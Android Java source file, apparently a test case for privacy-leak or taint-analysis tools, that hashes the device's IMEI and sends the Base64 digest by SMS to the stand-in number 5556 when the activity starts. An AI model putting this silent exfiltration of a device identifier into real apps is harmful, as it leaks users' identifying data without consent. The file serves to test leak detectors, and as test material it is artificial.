package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** A digest of it stands for the device as well. */
public class Hashed extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        try {
            java.security.MessageDigest d = java.security.MessageDigest.getInstance("SHA-1");
            d.update(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId().getBytes());
            SmsManager.getDefault().sendTextMessage("5556", null, android.util.Base64.encodeToString(d.digest(), 0), null, null);
        } catch (java.security.NoSuchAlgorithmException x) { }
    }
}
